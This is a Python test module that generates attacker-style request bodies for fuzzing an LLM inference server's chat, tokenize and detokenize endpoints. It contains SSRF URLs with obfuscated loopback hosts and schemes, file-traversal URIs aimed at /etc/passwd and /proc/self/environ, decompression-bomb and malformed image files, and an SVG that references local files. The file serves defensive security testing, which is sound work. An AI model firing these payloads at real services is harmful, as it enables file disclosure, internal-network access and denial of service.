"""Bodies of requests as an attacker sends them.

`bodies(seed, port, folder)` yields an endless, repeatable sequence of (kind, path, body, headers).
"""

import base64
import gzip
import io
import itertools
import json
import random
import struct
import zlib

from PIL import Image

PATHS = ("/v1/chat/completions", "/v1/completions", "/tokenize", "/detokenize", "/")

# fmt: off
NUMBERS = (
    "1e999", "-1e999", "NaN", "Infinity", "9" * 5000, "-1", "0", "1.5", str(2**31), str(2**63),
    str(2**64), "1e-400", "-0.0", "0x10", "true", "null", '"7"', "[]", "{}",
)
FIELDS = (
    "max_tokens", "max_completion_tokens", "temperature", "top_p", "top_k", "min_p",
    "presence_penalty", "seed", "n", "stop", "frequency_penalty", "repetition_penalty",
    "logprobs", "top_logprobs", "stop_token_ids", "stream", "stream_options", "ignore_eos",
    "tools", "tool_choice", "model", "messages", "prompt", "tokens", "logit_bias",
    "response_format", "text", "image", "history", "max_length",
)
VALUES = (
    None, True, False, 0, -1, 1, 1.5, "", "x", "\0", "\ud800", [], {}, [[]], [None], {"": None},
    "x" * 10_000,
    list(range(2000)),
    [{"type": "function", "function": {"name": "f", "parameters": {}}}],
    "<|user|>[gMASK]<sop><image>",
    "\u202e\U0001f468\u200d" * 50,
)
HOSTS = (  # spellings of loopback; {p} is the port
    "127.0.0.1:{p}", "localhost:{p}", "[::1]:{p}", "[::ffff:127.0.0.1]:{p}", "127.1:{p}",
    "2130706433:{p}", "0x7f000001:{p}", "0177.0.0.1:{p}", "0.0.0.0:{p}", "[::]:{p}",
    "localhost.:{p}", "LOCALHOST:{p}", "user:word@127.0.0.1:{p}", "ip6-localhost:{p}",
    "127.0.0.1:{p}@localhost:{p}", "127.0.0.1%00.localhost:{p}", "[fe80::1%25lo]:{p}",
    "[64:ff9b::7f00:1]:{p}", "127。0。0。1:{p}", "①②⑦.0.0.1:{p}", "127.0.0.1", "[::1",
    "localhost\\@127.0.0.1:{p}", "127.0.0.1:{p}#@localhost",
)
SCHEMES = (
    "http", "https", "HTTP", "ftp", "gopher", "dict", "file", "ldap", "jar:http", "data:http",
    "//", "javascript",
)
URL_PATHS = ("", "a.png", "moved", "../x", "%00", "?u=http://x")
TRAVERSALS = (  # {d} is the folder that files may be read from
    "file:///etc/passwd",
    "file://{d}/../../../../etc/passwd",
    "file://{d}/%2e%2e/%2e%2e/etc/passwd",
    "file://{d}",
    "file:///proc/self/environ",
    "file:///dev/zero",
    "file:///dev/stdin",
    "file://localhost/etc/passwd",
    "file:////etc/passwd",
    "file://{d}/a.png%00.txt",
    "file://{d}/..%252f..%252fetc/passwd",
    "/etc/passwd",
    "file:{d}/../x",
    "file://{d}/" + "a/" * 3000,
)
TEXTS = (
    "\0", "\ud800", "<|user|>", "x" * 100_000, "\u202e", "a\n" * 5000, "<|endoftext|>" * 500,
    "ﷺ" * 20_000, "{{7*7}}", "%s%n",
)
TYPES = ("", "text/plain", "multipart/form-data", "x" * 500)
CHOICES = ("auto", "required", "none", {"type": "function", "function": {"name": "f"}}, 7)
# fmt: on
BRACKETS = (("[", "]"), ('{"a":', "}"), ('{"messages":[', "]}"), ('{"content":[', "]}"))


def bodies(seed: int, port: int, folder: str):
    """Yields (kind, path, body, headers) without end, the same for the same seed.

    port: where the canary listens; folder: the one that files may be read from.
    """
    source = random.Random(seed)
    kinds = (
        truncated,
        flipped,
        numbers,
        nested,
        mistyped,
        bombs,
        damaged,
        urls,
        files,
        texts,
        tools,
        compressed,
        crowds,
        honest,
    )
    for kind in itertools.cycle(kinds):
        for path, body, headers in kind(source, port, folder):
            yield kind.__name__, path, body, headers


def chat(**more) -> dict:
    """Body of a small chat request; `more` replaces or adds fields."""
    return {"messages": [{"role": "user", "content": "hello"}], "max_tokens": 3, **more}


def chat_about(url: str) -> dict:
    """Body of a chat request with the image at `url`."""
    image = {"type": "image_url", "image_url": {"url": url}}
    question = {"type": "text", "text": "?"}
    return chat(messages=[{"role": "user", "content": [image, question]}])


def data_uri(data: bytes) -> str:
    return "data:image/png;base64," + base64.b64encode(data).decode()


def request(body, path=PATHS[0], **headers):
    """(path, bytes, headers) of a body that is bytes or becomes JSON."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode("utf-8", "surrogatepass")
    return path, data, {"content-type": "application/json", **headers}


# The kinds. Each takes (source of randomness, the canary's port, the readable folder) and yields
# requests.


def truncated(source, *_):
    whole = json.dumps(chat_about(data_uri(small_image(source)))).encode()
    yield request(whole[: source.randrange(len(whole))], source.choice(PATHS))


def flipped(source, *_):
    text = json.dumps(chat(stop=["x"], tools=[], stream=bool(source.getrandbits(1))))
    body = bytearray(text.encode())
    for _ in range(source.randrange(1, 6)):
        body[source.randrange(len(body))] = source.randrange(256)
    yield request(bytes(body), source.choice(PATHS))


def numbers(source, *_):
    name = source.choice(FIELDS)
    number = source.choice(NUMBERS)
    whole = json.dumps(chat(prompt="x", text="x", tokens=[1]))
    yield request(f'{whole[:-1]}, "{name}": {number}}}'.encode(), source.choice(PATHS))
    ids = f'{{"tokens": [{number}], "prompt": [{number}]}}'
    yield request(ids.encode(), source.choice(PATHS))


def nested(source, *_):
    depth = source.choice((10, 100, 900, 20_000))
    opening, closing = source.choice(BRACKETS)
    text = opening * depth + "1" + closing * depth * source.getrandbits(1)
    yield request(text.encode(), source.choice(PATHS))
    deep = "[" * depth + "]" * depth
    yield request(f'{json.dumps(chat())[:-1]}, "anything": {deep}}}'.encode())


def mistyped(source, *_):
    body = chat(prompt="x", text="x", tokens=[1, 2])
    for _ in range(source.randrange(1, 4)):
        body[source.choice(FIELDS)] = source.choice(VALUES)
    yield request(body, source.choice(PATHS))
    field = source.choice(("role", "content", "tool_calls", "name"))
    message = {"role": "user", "content": "x", field: source.choice(VALUES)}
    yield request(chat(messages=[message] * source.randrange(1, 3)))


def small_image(source) -> bytes:
    """A valid image file of at most 79 x 79 pixels."""
    file = io.BytesIO()
    size = source.randrange(1, 80), source.randrange(1, 80)
    image = Image.new(source.choice(("RGB", "L", "RGBA", "P")), size, source.randrange(200))
    image.save(file, source.choice(("PNG", "GIF", "WEBP")))
    return file.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG file."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, *more: bytes) -> bytes:
    """A PNG file whose header says `width` x `height`, whatever `data` holds."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = b"".join(more) + chunk(b"IDAT", data)
    return b"\x89PNG\r\n\x1a\n" + header + body + chunk(b"IEND", b"")


BOMB = zlib.compress(bytes(30_000_000), 9)  # 30 kB
SMALL = zlib.compress(bytes(90))
BMP_HEADER = (1 << 30, 0, 0, 54, 40, 2**31 - 1, -(2**31), 1, 32, 0, 0, 0, 0, 0, 0)
GIF_DATA = b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;"
BOMBS = (
    png(60_000, 60_000, BOMB),
    png(2**31 - 1, 1, BOMB),
    png(0, 0, BOMB),
    png(900, 900, BOMB),
    png(1, 2**31 - 1, b""),
    png(9, 9, SMALL, chunk(b"zTXt", b"a\0\0" + BOMB)),
    png(9, 9, SMALL, chunk(b"iCCP", b"a\0\0" + BOMB)),
    b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0) + GIF_DATA,
    b"BM" + struct.pack("<IHHIIiiHHIIiiII", *BMP_HEADER),
    b"RIFF\x1a\0\0\0WEBPVP8L\r\0\0\0/\xff\xff\xff\xff" + bytes(9),
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9999999 9999999\n",
    b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    b"II*\0\x08\0\0\0\xff\xff" + bytes(100),
)


def bombs(source, *_):
    data = source.choice(BOMBS)
    yield request(chat_about(data_uri(data)))
    image = base64.b64encode(data).decode()
    yield request({"text": "?", "image": image, "max_length": 300}, "/")


def damaged(source, *_):
    data = bytearray(small_image(source))
    for _ in range(source.randrange(1, 8)):
        data[source.randrange(len(data))] = source.randrange(256)
    length = source.randrange(1, len(data) + 1)
    yield request(chat_about(data_uri(bytes(data[:length]))))


def urls(source, port, _):
    host = source.choice(HOSTS).format(p=port)
    scheme = source.choice(SCHEMES) if source.random() < 0.4 else "http"
    yield request(chat_about(f"{scheme}://{host}/{source.choice(URL_PATHS)}"))


def files(source, _, folder):
    yield request(chat_about(source.choice(TRAVERSALS).format(d=folder)))


def texts(source, *_):
    text = source.choice(TEXTS)
    message = {"role": source.choice(("user", "system", "tool", text[:50])), "content": text}
    forms = (
        chat(messages=[message]),
        {"prompt": text, "max_tokens": 2},
        chat(model=text[:300]),
        chat(stop=[text]),
    )
    yield request(source.choice(forms), source.choice(PATHS))


def tools(source, *_):
    schema = {}
    for _ in range(source.choice((1, 31, 40, 400))):
        schema = {"y": [schema]} if source.random() < 0.05 else {"x": schema}
    function = {
        "name": source.choice(("f", "", "a b", "x" * 70, "\n")),
        "parameters": source.choice((schema, [], None, "x")),
    }
    arguments = source.choice(("{}", "{", None, {}, "x" * 1000))
    call = {"type": "function", "function": {"name": "f", "arguments": arguments}}
    offered = [{"type": "function", "function": function}] * source.choice((1, 2, 200))
    yield request(chat(tools=offered, tool_choice=source.choice(CHOICES)))
    answer = {"role": "assistant", "content": None, "tool_calls": [call]}
    yield request(chat(messages=[answer, {"role": "user", "content": "x"}]))


def compressed(source, *_):
    data = gzip.compress(json.dumps(chat()).encode() + b" " * 3_000_000, mtime=0)
    yield request(data, **{"content-encoding": "gzip"})
    path = source.choice(PATHS)
    yield request(json.dumps(chat()).encode(), path, **{"content-type": source.choice(TYPES)})


def crowds(source, *_):
    """Bodies that are nothing but many small things."""
    count = source.choice((1025, 5000, 40_000))
    part = {"type": "text", "text": ""}
    yield request(chat(messages=[{"role": "user", "content": [part] * count}]))
    message = {"role": "user", "content": ""}
    yield request({"messages": [message] * count}, source.choice(("/tokenize", PATHS[0])))
    yield request({"text": "x", "history": [["", ""]] * count}, "/")
    yield request({"tokens": [source.choice(VALUES)] * count}, "/detokenize")


def honest(source, *_):
    """What other clients ask meanwhile."""
    stream = {"stream": bool(source.getrandbits(1)), "stream_options": {"include_usage": True}}
    question = chat_about(data_uri(small_image(source)))
    yield request({**question, **stream, "logprobs": True})
    yield request(chat(temperature=source.random(), frequency_penalty=1, min_p=0.1, seed=1))
